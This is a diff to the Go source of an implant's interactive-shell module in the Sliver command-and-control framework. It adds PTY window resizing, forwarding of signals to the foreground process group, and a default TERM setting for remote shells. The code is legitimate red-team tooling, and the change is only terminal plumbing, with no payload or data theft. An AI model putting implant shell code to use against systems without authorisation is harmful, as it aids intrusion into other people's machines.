@@ -27,7 +27,11 @@ import (
 	// {{end}}
 
 	"context"
+	"fmt"
+	"os"
 	"os/exec"
+	"syscall"
+	"unsafe"
 
 	"github.com/bishopfox/sliver/implant/sliver/shell/pty"
 )
@@ -36,6 +40,15 @@ var (
 	// Shell constants
 	bash = []string{"/bin/bash"}
 	sh   = []string{"/bin/sh"}
+
+	signals = map[string]syscall.Signal{
+		"SIGINT":  syscall.SIGINT,
+		"SIGQUIT": syscall.SIGQUIT,
+		"SIGTSTP": syscall.SIGTSTP,
+		"SIGCONT": syscall.SIGCONT,
+		"SIGTERM": syscall.SIGTERM,
+		"SIGHUP":  syscall.SIGHUP,
+	}
 )
 
 // Start - Start a process
@@ -44,14 +57,48 @@ func Start(command string) error {
 	return cmd.Start()
 }
 
-// StartInteractive - Start a shell
-func StartInteractive(tunnelID uint64, command []string, enablePty bool) (*Shell, error) {
+// StartInteractive - Start a shell, the PTY is rows x cols if both are non-zero
+func StartInteractive(tunnelID uint64, command []string, enablePty bool, rows uint16, cols uint16) (*Shell, error) {
 	if enablePty {
-		return ptyShell(tunnelID, command)
+		return ptyShell(tunnelID, command, rows, cols)
 	}
 	return pipedShell(tunnelID, command)
 }
 
+// Resize - Resize the shell's PTY, piped shells have no size
+func (s *Shell) Resize(rows uint16, cols uint16) error {
+	if s.Pty == nil || rows == 0 || cols == 0 {
+		return nil
+	}
+	return pty.Setsize(s.Pty, &pty.Winsize{Rows: rows, Cols: cols})
+}
+
+// Signal - Send a signal to the command running in the shell, in a PTY this is the
+// foreground process group otherwise it's the shell's child processes. The shell itself
+// isn't signaled, a non-interactive shell would exit.
+func (s *Shell) Signal(name string) error {
+	sig, ok := signals[name]
+	if !ok {
+		return fmt.Errorf("unsupported signal %s", name)
+	}
+	if s.Pty != nil {
+		var pgrp int32
+		_, _, errno := syscall.Syscall(syscall.SYS_IOCTL, s.Pty.Fd(), syscall.TIOCGPGRP, uintptr(unsafe.Pointer(&pgrp)))
+		if errno != 0 {
+			return errno
+		}
+		return syscall.Kill(-int(pgrp), sig)
+	}
+	children, err := childProcesses(s.Command.Process.Pid)
+	if err != nil {
+		return err
+	}
+	for _, pid := range children {
+		syscall.Kill(pid, sig)
+	}
+	return nil
+}
+
 func pipedShell(tunnelID uint64, command []string) (*Shell, error) {
 	// {{if .Config.Debug}}
 	log.Printf("[shell] %s", command)
@@ -98,7 +145,7 @@ func pipedShell(tunnelID uint64, command []string) (*Shell, error) {
 	}, err
 }
 
-func ptyShell(tunnelID uint64, command []string) (*Shell, error) {
+func ptyShell(tunnelID uint64, command []string, rows uint16, cols uint16) (*Shell, error) {
 	// {{if .Config.Debug}}
 	log.Printf("[ptmx] %s", command)
 	// {{end}}
@@ -106,6 +153,11 @@ func ptyShell(tunnelID uint64, command []string) (*Shell, error) {
 	ctx, cancel := context.WithCancel(context.Background())
 
 	cmd := exec.CommandContext(ctx, command[0], command[1:]...)
+	cmd.Env = os.Environ()
+	if os.Getenv("TERM") == "" {
+		// Without a TERM programs fall back to a dumb terminal, e.g. no line editing
+		cmd.Env = append(cmd.Env, "TERM=xterm-256color")
+	}
 	term, err := pty.Start(cmd)
 	if err != nil {
 		// {{if .Config.Debug}}
@@ -115,13 +167,21 @@ func ptyShell(tunnelID uint64, command []string) (*Shell, error) {
 		return pipedShell(tunnelID, command)
 	}
 
-	return &Shell{
+	systemShell := &Shell{
 		ID:      tunnelID,
 		Command: cmd,
 		Stdout:  term,
 		Stdin:   term,
+		Pty:     term,
 		Cancel:  cancel,
-	}, err
+	}
+	err = systemShell.Resize(rows, cols)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[term] failed to set size: %v", err)
+		// {{end}}
+	}
+	return systemShell, nil
 }
 
 // GetSystemShellPath - Find bash or sh